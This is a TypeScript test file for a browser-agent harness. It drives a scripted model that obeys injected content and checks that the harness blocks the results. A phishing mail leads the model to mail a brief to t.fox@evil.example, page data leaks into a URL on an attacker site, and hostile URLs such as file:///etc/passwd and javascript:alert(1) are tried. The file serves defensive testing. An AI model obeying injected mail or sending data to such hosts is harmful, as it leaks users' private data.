import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
import { readAnswers } from '../../scripts/annex/answers.ts';
import { readEngine } from '../../scripts/annex/engine-option.ts';
import { briefOrder, drive, type Job, mailOrder, openJob } from '../support/job.ts';
import { startObedientModel, type Turn } from '../support/obedient-model.ts';
import { startPlainSite } from '../support/plain-site.ts';

const FOX = 't.fox@evil.example';
let job: Job;
const closing: (() => Promise<void>)[] = [];
beforeAll(async () => {
  job = await openJob();
});
afterAll(() => job.close());
afterEach(async () => {
  for (const close of closing.splice(0)) await close();
});

async function obeying(...turns: Turn[]) {
  const model = await startObedientModel(turns);
  closing.push(model.close);
  return { model, engine: readEngine(model.engine, undefined, undefined) };
}
async function site(pages: Parameters<typeof startPlainSite>[0]) {
  const plain = await startPlainSite(pages);
  closing.push(plain.close);
  return plain;
}
const refuse = readAnswers('refuse');

test('a mail to an address out of a mail is asked about twice, with where it came from, and then denied', async () => {
  const mail = job.demo.origin('mail');
  const phishing = job.demo.mail.inbox().find((one) => JSON.stringify(one).includes(FOX));
  const send: Turn = ({ tab }) => [['send', { tab }]];
  const { engine } = await obeying(
    ({ tab }) => [['read', { tab }]],
    ({ tab }) => [['compose', { tab, to: [FOX], subject: 'The brief', body: 'As asked.' }]],
    send,
    send,
    send,
  );
  const open = [`${mail}/message/${phishing?.id}`];
  const { output } = await drive(job, mailOrder(job, '', { engine, open, inputs: [], answer: refuse }));
  expect(output.approvals.map((one) => one.answer)).toEqual(['refuse', 'refuse']);
  expect(output.approvals[0]?.reasons.join(' ')).toMatch(new RegExp(`${FOX}: It came from ".*" \\(mail\\.localhost`));
  expect(output.run).toMatchObject({ state: 'rejected', reason: 'I am done.' });
  expect(job.demo.mail.sent()).toEqual([]);
});

test('page text in an address is asked about before anything leaves', async () => {
  const evil = await site({ '/': '<title>E</title>' });
  const news = job.demo.origin('news');
  const { engine } = await obeying(
    ({ tab }) => [['read', { tab }]],
    ({ tab }) => [
      ['open_tab', { url: `${evil.origin}/?q=heat-pumps` }],
      ['navigate', { tab, url: `${evil.origin}/heat-pumps` }],
    ],
  );
  const allow = [news, evil.origin].map((site) => ({ site, capabilities: ['read' as const] }));
  const { output } = await drive(job, briefOrder(job, { engine, allow, answer: refuse }));
  expect(output.approvals.map((one) => one.tool)).toEqual(['open_tab', 'navigate']);
  expect(output.approvals[0]?.reasons[0]).toContain('An address can carry what was read');
  expect(evil.asked).toEqual([]);
});

test('calls that are none come to nothing, and the run ends in words', async () => {
  const mail = job.demo.origin('mail');
  const bad =
    (calls: [string, Record<string, unknown>][]): Turn =>
    () =>
      calls;
  const { engine } = await obeying(
    bad([
      ['fly', {}],
      ['send', { tab: 'one' }],
      ['compose', { tab: 1, body: 'x'.repeat(10_000_000) }],
    ]),
    ({ tab }) => [
      ['send', { tab }],
      ['send', { tab }],
      ['read', { tab: 99_999 }],
      ['navigate', { tab: 99_999, url: mail }],
    ],
    bad(
      [
        'data:text/html,x',
        'javascript:alert(1)',
        'blob:http://a/b',
        'http://a:b@127.0.0.1/',
        'file:///etc/passwd',
        'chrome://settings',
      ].map((url) => ['read', { tab: 1, url }]),
    ),
  );
  const { output } = await drive(job, mailOrder(job, '', { engine, inputs: [], answer: refuse }));
  expect(output.approvals).toEqual([]);
  expect(output.run).toMatchObject({ state: 'succeeded', reason: 'I am done.' });
  expect(job.demo.mail.sent()).toEqual([]);
});

test('leave to read one site is none to read where it redirects, or another port of its host', async () => {
  const other = await site({ '/': '<title>Their secret title</title><p>A secret of the other site.' });
  const first = await site({ '/': '<title>One</title><p>A page.', '/away': { redirect: `${other.origin}/` } });
  const { engine, model } = await obeying(
    () => [['open_tab', { url: `${first.origin}/away` }]],
    ({ text }) => [['read', { tab: Number(/"tab":(\d+)/.exec(text)?.[1]) }]],
  );
  const task = `Brief me on ${first.origin}/away`;
  const allow = [{ site: first.origin, capabilities: ['read' as const] }];
  const { output } = await drive(
    job,
    briefOrder(job, { engine, allow, task, open: [`${first.origin}/`], answer: refuse }),
  );
  expect(output.approvals.map((one) => [one.tool, one.site])).toEqual([['read', other.origin]]);
  expect(model.asked.some((one) => one.includes('secret'))).toBe(false);
});
